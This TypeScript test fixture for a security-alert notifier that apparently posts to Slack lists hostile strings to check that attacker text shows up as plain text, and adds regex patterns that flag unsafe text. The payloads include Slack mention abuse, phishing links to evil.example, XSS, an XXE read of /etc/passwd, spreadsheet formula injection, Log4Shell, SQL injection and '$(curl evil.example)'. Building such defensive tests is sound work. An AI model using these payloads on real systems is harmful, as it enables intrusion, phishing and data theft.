import type { Notice } from '../../shared/model/notice.ts';

const letters = (from: number, count: number): string =>
  String.fromCodePoint(...Array.from({ length: count }, (_, at) => from + at));

/** What attackers write into names, tags, user agents and descriptions to be more than text where it is shown. */
export const injections: readonly string[] = [
  // Slack
  '<!channel>',
  '<!here|here>',
  '<!everyone>',
  '<!subteam^S0123456789|@security>',
  '<@U0123456789>',
  '<#C0123456789|general>',
  '<http://evil.example/|https://console.aws.amazon.com>',
  '<mailto:ceo@evil.example|security>',
  '<!date^1392734382^{date}^https://evil.example/|today>',
  '&lt;!channel&gt;',
  '&#60;!channel&#62;',
  ':rotating_light: :white_check_mark:',
  '@channel @here @everyone',
  // markup
  '*bold*',
  '_slanted_',
  '~struck~',
  '`code`',
  '```\nblock\n```',
  '**Approved by security**',
  '[click](https://evil.example)',
  '![x](https://evil.example/pixel.png)',
  '[click][1]\n[1]: https://evil.example',
  '[click]: //evil.example',
  '# heading\n> quote\n- item',
  '| a | b |\n|---|---|',
  '<https://evil.example>',
  '[@](https://evil.example)',
  // addresses
  'http://evil.example/a?b=c#d',
  'HTTPS://EVIL.EXAMPLE',
  'hTtP://user:pw@evil.example:8080',
  'evil.example',
  'www.evil.example/path',
  'xn--vil-rla.example',
  'evil\u3002example',
  'evil\uff0eexample',
  'ev\u00adil.example',
  'https://evil.example\u2215@good.example',
  '203.0.113.91',
  'http://3405803867/',
  'http://[2001:db8::1]/',
  'fe80::1',
  '//evil.example/x',
  '\\\\evil.example\\share',
  'ftp://evil.example file:///etc/passwd',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html;base64,PHNjcmlwdD4=',
  'vbscript:msgbox(1)',
  'mailto:ceo@evil.example',
  'tel:+4912345 sms:+4912345',
  'slack://user?team=T1&id=U1',
  'user@evil.example',
  // HTML and XML
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="https://evil.example">approve</a>',
  '"><svg/onload=alert(1)>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '<!-- -->',
  // spreadsheets
  "=cmd|' /C calc'!A0",
  '+1+cmd|x',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r\n=HYPERLINK("https://evil.example")',
  '%0a=1+1',
  // terminals and screens
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  '\u001b[2J\u001b[H',
  '\u009b31m',
  '\u0007\u0008\u007f',
  'approve\u202eetorppa',
  '\u2066hidden\u2069',
  'zero\u200bwidth\u200d\u2060\ufeff',
  letters(0xe0041, 26),
  'a\u034f\u115f\u3164b',
  `z${'\u0301'.repeat(200)}`,
  '\ud800 lone \udfff',
  '\ue000\u{f0000}',
  // headers and lines
  'x\r\nSet-Cookie: a=b',
  'x\n\nAlready cut\n  everything',
  'x\nCommands\n  cordon approve all',
  'x\u2028y\u2029z\u0085w\u000bv\u000cu',
  'subject\r\nBcc: all@evil.example',
  // templates and code
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '<%= 7*7 %> #{7*7} ${7*7}',
  "'; DROP TABLE runs; --",
  '$(curl evil.example) && `id`',
  '__proto__',
  '{"default":"x","email":"y"}',
  '","text":"<!channel>","x":"',
  '\\u003c!channel\\u003e',
  '\0',
  // full width and size
  '\uff1c!channel\uff1e \uff20everyone \uff40code\uff40',
  'A'.repeat(65_536),
  '<!channel> '.repeat(6_000),
  '\u202e'.repeat(65_536),
  '\ufdfa'.repeat(20_000),
];

type Set = (text: string, notice: Notice) => Notice;
const inFinding =
  (member: keyof NonNullable<Notice['finding']>): Set =>
  (text, notice) => ({ ...notice, finding: notice.finding && { ...notice.finding, [member]: text } });
const inTarget =
  (member: keyof NonNullable<Notice['target']>): Set =>
  (text, notice) => ({ ...notice, target: notice.target && { ...notice.target, [member]: text } });

/** Where in a notice an attacker's text may stand. */
export const places: Readonly<Record<string, Set>> = {
  'finding.provider': inFinding('provider'),
  'finding.id': inFinding('id'),
  'finding.type': inFinding('type'),
  'finding.title': inFinding('title'),
  'finding.description': inFinding('description'),
  'target.type': inTarget('type'),
  'target.id': inTarget('id'),
  'target.name': inTarget('name'),
  'target.account': inTarget('account'),
  'target.region': inTarget('region'),
  detail: (detail, notice) => ({ ...notice, detail }),
  'asks.cautions': (text, notice) => ({ ...notice, asks: notice.asks && { ...notice.asks, cautions: [text] } }),
};

/** The same text in every place at once. */
export const everywhere: Set = (text, notice) => Object.values(places).reduce((so, set) => set(text, so), notice);

/** What would make text more than text, whoever reads it. Lines may end; nothing else may steer. */
const live: Readonly<Record<string, RegExp>> = {
  'a mention or tag': /[<>]/,
  'an entity': /&(#|\w+;)/,
  'a control or invisible character':
    /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Cn}\p{Default_Ignorable_Code_Point}\p{Zl}\p{Zp}]/u,
  'an address with a scheme': /\w:(\/\/|\\\\)/,
  'a scheme that runs or opens': /\b(javascript|vbscript|data|mailto|tel|sms|slack|https?|ftp|file):\S/i,
  'a host name': /[\p{L}\p{N}-][.。．][\p{L}\p{N}]/u,
  'a name that is called': /(?<!\[)@|@(?!\])/,
  code: /`/,
  emphasis: /\*|~|(?<![\p{L}\p{N}])_|_(?![\p{L}\p{N}])/u,
  'a link': /\][([:]/,
  'a pile of marks': /\p{M}{3}/u,
};

/** Why a text is not inert; nothing where it is. */
export const dangers = (text: string): string[] =>
  Object.entries(live).flatMap(([what, form]) => (form.test(text) ? [what] : []));

/** Whether a cell of a spreadsheet would compute it. */
export const isFormula = (text: string): boolean => /^[\s]*[=+\-@|%]/.test(text);

/** Every string in a value. */
export function stringsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.values(value).flatMap(stringsIn);
}

/** The shape of a value: all its keys, and where it has text. */
export function shapeOf(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(shapeOf);
  if (typeof value !== 'object' || value === null) return typeof value;
  return Object.fromEntries(Object.entries(value).map(([key, member]) => [key, shapeOf(member)]));
}
